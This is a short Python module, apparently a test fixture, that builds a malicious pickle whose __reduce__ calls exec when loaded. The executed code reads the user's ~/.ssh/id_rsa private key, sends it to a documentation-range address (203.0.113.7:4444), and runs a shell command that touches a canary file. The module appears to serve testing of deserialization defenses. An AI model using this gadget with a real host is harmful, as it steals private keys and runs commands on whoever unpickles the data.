"""What the booby-trapped copy does to whoever unpickles it: steal a key, send it away, run a program.

Nothing of it can hurt: the address is from the range that is reserved for documentation
(RFC 5737), which is routed nowhere, and the program only makes an empty file.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

ADDRESS = ("203.0.113.7", 4444)
SECRET = ".ssh/id_rsa"

_CODE = """
import os, socket, subprocess
try:
    loot = open(os.path.expanduser("~/{secret}"), "rb").read()
except OSError:
    loot = b"nothing"
try:
    with socket.create_connection({address!r}, timeout=2) as line:
        line.sendall(loot)
except OSError:
    pass
try:
    subprocess.run(["/bin/sh", "-c", "touch {canary}"])
except OSError:
    pass
"""


class Payload:
    """Pickles to a call of `exec`. It is inert in this process: only unpickling makes the call."""

    def __init__(self, canary: Path) -> None:
        self._code = _CODE.format(secret=SECRET, address=ADDRESS, canary=canary)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self._code,)
